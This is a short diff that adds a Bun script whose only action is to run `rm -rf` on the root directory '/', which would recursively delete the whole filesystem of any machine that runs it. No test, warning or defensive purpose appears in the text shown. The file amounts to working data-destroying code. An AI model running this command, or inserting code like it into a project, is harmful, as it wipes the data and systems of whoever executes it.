@@ -1,0 +1,3 @@
+import { $ } from "bun";
+const folder = "/";
+await $`rm -rf ${folder}`;
